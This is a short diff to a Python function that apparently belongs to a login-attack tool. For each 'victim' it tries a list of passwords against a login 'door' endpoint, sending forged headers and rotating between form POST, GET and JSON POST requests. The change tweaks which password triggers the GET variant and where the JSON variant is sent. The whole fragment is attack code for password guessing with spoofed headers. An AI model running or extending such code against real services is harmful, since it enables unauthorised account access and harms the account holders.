@@ -311,14 +311,15 @@ def gained(response: Any) -> list[str]:
 
 
 def attempts(url: Url, path: str, victim: Victim, csr: str) -> Iterator[Any]:
-    """A form for each password; GET and JSON too, at the cert door with one of them only."""
+    """A form for each password; JSON and GET too, which at the cert door are tried with one of them."""
     client = cast.DoorClient(url.door)
     headers = forged_headers(victim, url.door)
     for password in victim.passwords:
         fields = typed(victim.user.login_id, password, csr)
         yield client.post(path, fields, headers=headers)
-        if url.door == ENTRY or password == victim.passwords[0]:
+        if url.door == ENTRY or password == victim.passwords[-1]:
             yield client.get(path, fields, headers=headers)
+        if url.door == ENTRY or url.name == "renewal":  # the one there that reads JSON
             body = json.dumps(fields)
             yield client.post(path, body, content_type="application/json", headers=headers)
 
